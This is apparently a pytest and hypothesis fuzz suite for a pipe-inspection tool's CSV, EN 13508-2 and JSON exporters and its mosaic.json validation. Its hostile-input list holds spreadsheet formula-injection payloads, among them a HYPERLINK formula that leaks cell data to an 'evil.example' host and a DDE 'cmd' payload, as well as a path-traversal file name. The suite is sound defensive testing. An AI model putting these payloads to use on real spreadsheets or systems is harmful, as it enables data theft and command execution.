"""A small fuzz suite of hostile inputs: text that tries formula injection in the CSV
exports, line injection in the EN 13508-2 file, arbitrary text given to every parser,
and impossible mosaic.json files given to ``pipestitch measure``.

Everything is generated here (no data files); hypothesis drives the property tests.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipestitch.cli.app import app
from pipestitch.io.outputs import mosaic_to_uint8, write_json, write_mosaic_png
from pipestitch.standards import (
    Observation,
    Survey,
    parse_en13508,
    parse_json,
    parse_observations_csv,
    parse_pacp_csv,
    write_en13508,
    write_json_text,
    write_observations_csv,
    write_pacp_csv,
)
from pipestitch.standards.en13508 import field_text
from pipestitch.standards.observations import (
    FORMULA_TRIGGERS,
    OBSERVATION_COLUMNS,
    csv_record,
    neutralise_cell,
    read_observations_file,
    restore_cell,
)

runner = CliRunner()
FUZZ = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@SUM(1)",
    "=1+1\n=2+2",
    "x\n#Z\n#B01=injected;x",
    "\r\n#C=I;A\r\n1;BAC",
    "#Z",
    "  #A1=UTF-8",
    'a;b "c" ;; "',
    "\x00\x1b[31m\x7f\x85\x9f",
    "\u2028#Z\u2029#Z\x0b#Z\x0c#Z\x1c#Z",
    "ü ß € 漢字 🙂",
    ",,,\n,,,",
    '"',
    "'",
    "",
]
SURVEY = Survey("pipe 1", "2026-01-02", "03:04", 5.25, 150, "relative")


def _observation(text: str) -> Observation:
    return Observation(1.25, "BAF", "Z", quant1=-4, remark=text, clock_from=3, ref=text)


def _spreadsheet_cells(text: str) -> list[str]:
    """Every cell of a CSV text as a spreadsheet's CSV import reads it."""
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _no_formula(text: str, numeric: set[str]) -> None:
    for cell in _spreadsheet_cells(text):
        assert cell in numeric or not cell.startswith(FORMULA_TRIGGERS), repr(cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_through_the_csv_exports(text: str) -> None:
    o = _observation(text)
    for write, parse in ((write_pacp_csv, parse_pacp_csv),
                         (write_observations_csv, parse_observations_csv)):
        written = write([o])
        _no_formula(written, {"-4"})
        assert parse(written) == [o]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_through_the_en13508_file(text: str) -> None:
    survey = replace(SURVEY, pipe_ref=text, reference=text)
    written = write_en13508([(survey, [_observation(text)])])
    _only_writer_control_lines(written)
    [(back_survey, [back])] = parse_en13508(written)
    assert back == _observation(field_text(text))
    assert (back_survey.pipe_ref, back_survey.reference) == (field_text(text),) * 2


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_through_the_json_file(text: str) -> None:
    survey = replace(SURVEY, pipe_ref=text)
    assert parse_json(write_json_text(survey, [_observation(text)])) == (
        survey, [_observation(text)])


def _only_writer_control_lines(text: str) -> None:
    """No line (split as any reader might, Unicode separators included) begins with
    ``#`` except the writer's own control lines, and every observation is one line."""
    writer = {"#A1=ISO-8859-1", "#A2=en", "#A3=;", "#A4=.", '#A5="', "#A6=2010",
              "#B01=AAA;ABA;ABF;ABG;ABQ;ACB;ACC;ADE", "#C=I;A;B;C;D;E;F;G;H;J;M", "#Z"}
    lines = text.splitlines()
    assert lines == text.split("\n")[:-1]
    assert all(line in writer for line in lines if line.lstrip().startswith("#"))


@pytest.mark.parametrize("fmt", ["pacp-csv", "en13508"])
def test_export_command_with_hostile_user_rows(tmp_path: Path, fmt: str) -> None:
    """`pipestitch export` on a run folder whose observations.csv holds hostile rows a
    user typed (raw, not neutralised): the export file is safe and reads back."""
    rows = [csv_record(["1.0", "BDB", "", "", "", "", text, "", "", "", text])
            for text in HOSTILE if not text.startswith("'")]
    (tmp_path / "observations.csv").write_text(csv_record(OBSERVATION_COLUMNS) + "".join(rows),
                                               newline="")
    write_json(tmp_path / "standards.json", {"survey": SURVEY.__dict__})
    dest = tmp_path / "export.out"
    result = runner.invoke(app, ["export", str(tmp_path), "-f", fmt, "-o", str(dest)])
    assert result.exit_code == 0, result.output
    typed = [t for t in HOSTILE if not t.startswith("'")]
    if fmt == "pacp-csv":
        text = dest.read_bytes().decode("utf-8")
        _no_formula(text, set())
        assert [o.remark for o in parse_pacp_csv(text)] == typed
    else:
        text = dest.read_bytes().decode("latin-1")
        _only_writer_control_lines(text)
        [(_, obs)] = parse_en13508(text)
        assert obs[0].code == "BCD" and obs[-1].code == "BCE"      # start and finish nodes
        latin = [field_text(t).encode("latin-1", "replace").decode("latin-1") for t in typed]
        assert [o.ref for o in obs[1:-1]] == latin


# --- properties ---------------------------------------------------------------------------

@FUZZ
@given(st.text())
def test_neutralise_restore_round_trip(text: str) -> None:
    written = neutralise_cell(text)
    assert restore_cell(written) == text
    assert not written.startswith(FORMULA_TRIGGERS)


@FUZZ
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab")))
def test_restore_leaves_unwritten_cells_alone(text: str) -> None:
    """A cell neutralise_cell would have left alone reads back as it is."""
    if neutralise_cell(text) == text:
        assert restore_cell(text) == text


_stripped = st.text().map(str.strip)
observations = st.builds(
    Observation,
    distance_m=st.integers(0, 10**6).map(lambda k: k / 100),
    code=st.sampled_from(["BAC", "BAF", "BAA", "BBC", "BDB"]),
    char1=_stripped, char2=_stripped,
    quant1=st.none() | st.integers(-10**6, 10**6), quant2=st.none() | st.integers(-999, 999),
    remark=st.text(), clock_from=st.none() | st.integers(1, 12),
    clock_to=st.none() | st.integers(1, 12), continuous=_stripped, ref=st.text())


@FUZZ
@given(st.lists(observations, max_size=4))
def test_csv_exports_round_trip_any_text(obs: list[Observation]) -> None:
    for write, parse in ((write_pacp_csv, parse_pacp_csv),
                         (write_observations_csv, parse_observations_csv)):
        written = write(obs)
        numeric = {str(v) for o in obs for v in (o.quant1, o.quant2) if v is not None}
        _no_formula(written, numeric)
        assert parse(written) == obs


def _en_expected(o: Observation) -> Observation:
    clean = {name: field_text(getattr(o, name)) for name in ("remark", "ref")}
    clean |= {name: field_text(getattr(o, name)).strip()
              for name in ("char1", "char2", "continuous")}
    return replace(o, **clean)


@FUZZ
@given(st.lists(observations, max_size=4), st.text(), st.text())
def test_en13508_round_trips_any_text_but_line_breaks(obs: list[Observation], pipe_ref: str,
                                                      reference: str) -> None:
    survey = replace(SURVEY, pipe_ref=pipe_ref, reference=reference)
    written = write_en13508([(survey, obs)])
    _only_writer_control_lines(written)
    [(back_survey, back)] = parse_en13508(written)
    assert back == [_en_expected(o) for o in obs]
    assert back_survey == replace(survey, pipe_ref=field_text(pipe_ref),
                                  reference=field_text(reference))


@FUZZ
@given(st.lists(st.tuples(observations, st.lists(st.text(), max_size=3),
                          st.sampled_from(["\n", "\r\n"]))),
       st.lists(observations, max_size=3))
def test_user_rows_survive_recoding_byte_for_byte(user: list, auto: list[Observation]) -> None:
    """User rows (any text, extra cells, either line end, as csv_record writes them
    un-neutralised) are in the re-coded file exactly as they were written."""
    user_text = []
    for o, extra, newline in user:
        o = replace(o, ref="" if o.ref.startswith("auto:") else o.ref)
        cells = [format(getattr(o, c)) if getattr(o, c) is not None else ""
                 for c in OBSERVATION_COLUMNS]
        user_text.append(csv_record([*cells, *extra], newline=newline))
    auto = [replace(o, ref="auto:" + o.ref) for o in auto]
    earlier = csv_record(OBSERVATION_COLUMNS) + "".join(user_text)
    file = read_observations_file(earlier)
    written = write_observations_csv(auto, keep=file)
    for row in file.rows:
        assert row.text in written
    assert len(file.rows) == len(user)
    again = write_observations_csv(auto, keep=read_observations_file(written))
    assert again == written
    assert sorted(parse_observations_csv(written), key=repr) == sorted(
        [r.observation for r in file.rows] + auto, key=repr)


@FUZZ
@given(st.text(max_size=300))
def test_parsers_raise_only_value_error(text: str) -> None:
    for parse in (parse_pacp_csv, parse_observations_csv, parse_en13508, parse_json):
        try:
            parse(text)
        except ValueError:
            pass


@FUZZ
@given(st.lists(st.sampled_from(["#A3=;", "#A3=", "#A3=ab", "#A5=", "#A5=''", "#A4=", "#B01=AAA",
                                 "#B01=", "#B", "#C=I;A", "#C=A", "#C=", "#Z", "1;BAC",
                                 '"1;BAC', "x", "", "1.5;BAC;;;;;;13", "p"]), max_size=8))
def test_en13508_parser_on_shuffled_control_lines(lines: list[str]) -> None:
    try:
        parse_en13508("\n".join(lines))
    except ValueError:
        pass


# --- mosaic.json -----------------------------------------------------------------------------

GOOD_META = {"mm_per_px_axial": 0.5, "deg_per_px": 1.0, "z0_mm": 0.0, "radius_mm": 30.0,
             "n_rows": 360, "n_cols": 300}


@pytest.fixture()
def run_folder(tmp_path: Path) -> Path:
    """A run folder with a 360 x 300 mosaic holding one hole, measured once."""
    rng = np.random.default_rng(0)
    image = 100 + 3 * rng.standard_normal((360, 300))
    yy, xx = np.mgrid[:360, :300]
    image[(yy - 100) ** 2 + (xx - 150) ** 2 < 15 ** 2] = 10
    write_mosaic_png(tmp_path / "mosaic.png", mosaic_to_uint8(image)[0])
    write_json(tmp_path / "mosaic.json", GOOD_META)
    result = runner.invoke(app, ["measure", str(tmp_path)])
    assert result.exit_code == 0 and "1 defects (1 holes" in result.output, result.output
    return tmp_path


@pytest.mark.parametrize(("change", "key"), [
    ({"mm_per_px_axial": -0.5}, "mm_per_px_axial"),
    ({"mm_per_px_axial": 0}, "mm_per_px_axial"),
    ({"deg_per_px": 0.0}, "deg_per_px"),
    ({"deg_per_px": -1.0}, "deg_per_px"),
    ({"deg_per_px": 720.0}, "deg_per_px"),
    ({"z0_mm": float("nan")}, "z0_mm"),
    ({"z0_mm": float("inf")}, "z0_mm"),
    ({"z0_mm": "0"}, "z0_mm"),
    ({"radius_mm": 0}, "radius_mm"),
    ({"radius_mm": True}, "radius_mm"),
    ({"radius_mm": None}, "radius_mm"),
    ({"n_cols": -3}, "n_cols"),
    ({"n_cols": 2.5}, "n_cols"),
    ({"window_mm": [0, "a"]}, "window_mm"),
    ({"full_resolution": {"file": "mosaic.ome.tif", "mm_per_px_axial": 0.1,
                          "deg_per_px": -0.2, "z0_mm": 0.0}}, "full_resolution.deg_per_px"),
    ({"full_resolution": {"file": "../../elsewhere.tif", "mm_per_px_axial": 0.1,
                          "deg_per_px": 0.2, "z0_mm": 0.0}}, "full_resolution.file"),
    ({"full_resolution": "mosaic.ome.tif"}, "full_resolution"),
    ({"mm_per_px_axial": ...}, "missing key mm_per_px_axial"),
    ({"z0_mm": ...}, "missing key z0_mm"),
])
def test_measure_refuses_an_impossible_mosaic_json(run_folder: Path, change: dict,
                                                   key: str) -> None:
    meta = {k: v for k, v in {**GOOD_META, **change}.items() if v is not ...}
    # json.dumps writes NaN/Infinity literals, which json.loads reads back as floats.
    (run_folder / "mosaic.json").write_text(json.dumps(meta))
    before = {p.name: p.read_bytes() for p in run_folder.iterdir()}
    result = runner.invoke(app, ["measure", str(run_folder)])
    assert result.exit_code == 2, result.output
    assert "mosaic.json" in result.output and key in result.output
    assert {p.name: p.read_bytes() for p in run_folder.iterdir()} == before


@pytest.mark.parametrize("text", ["[]", '"x"', "{", "NaN", "{}", "[" * 10000])
def test_measure_refuses_a_mosaic_json_that_is_no_object(run_folder: Path, text: str) -> None:
    (run_folder / "mosaic.json").write_text(text)
    defects = (run_folder / "defects.csv").read_bytes()
    result = runner.invoke(app, ["measure", str(run_folder)])
    assert result.exit_code == 2 and "mosaic.json" in result.output, result.output
    assert (run_folder / "defects.csv").read_bytes() == defects


# --- odometry.csv and imu.csv: `check` and the stages read them with the same readers ---

_CSV_CELLS = st.one_of(st.sampled_from(["0", "1", "2", "1.5", "-1", "nan", "inf", "", " 2",
                                        "abc", "1e3", "\ufeff0"]),
                       st.text(alphabet="0123456789.-e, \"\ufeff", max_size=4))


@pytest.fixture()
def tiny_dataset(tmp_path: Path) -> Path:
    import cv2

    from pipestitch.camera import default_camera
    from pipestitch.io.probe_toml import format_probe_toml, probe_config_for

    cfg = probe_config_for(default_camera("half"), plane_distance_mm=16.0,
                           pipe_diameter_mm=65.0)
    text = format_probe_toml(cfg).replace("width = 1224", "width = 32")
    (tmp_path / "probe.toml").write_text(text.replace("height = 1024", "height = 24"))
    (tmp_path / "frames").mkdir()
    for i in range(3):
        for kind in ("laser", "led"):
            cv2.imwrite(str(tmp_path / "frames" / f"{kind}_{i:05d}.png"),
                        np.zeros((24, 32), np.uint8))
    return tmp_path


@FUZZ
@given(st.sampled_from(["odometry.csv", "imu.csv"]), st.booleans(),
       st.sampled_from(["frame,z_mm", "frame,roll_deg", "frame,z_mm,roll_deg", "frame"]),
       st.lists(st.lists(_CSV_CELLS, min_size=1, max_size=3), max_size=5))
def test_check_agrees_with_the_readers_of_the_stages(tiny_dataset: Path, name: str, bom: bool,
                                                     header: str, rows: list) -> None:
    from pipestitch.errors import DatasetError
    from pipestitch.io.dataset import check_dataset, open_dataset
    from pipestitch.io.imu import read_imu

    for other in ("odometry.csv", "imu.csv"):
        (tiny_dataset / other).unlink(missing_ok=True)
    text = "\n".join([header, *(",".join(r) for r in rows)]) + "\n"
    (tiny_dataset / name).write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode())
    try:
        open_dataset(tiny_dataset)
        read_imu(tiny_dataset)
        stage_error = None
    except DatasetError as exc:   # anything else is a bug
        stage_error = exc
    errors = [p for p in check_dataset(tiny_dataset) if p.severity == "error"]
    if stage_error is None:
        assert errors == []
    else:
        assert [(p.path, p.message) for p in errors] == [(stage_error.path,
                                                          stage_error.problem)]
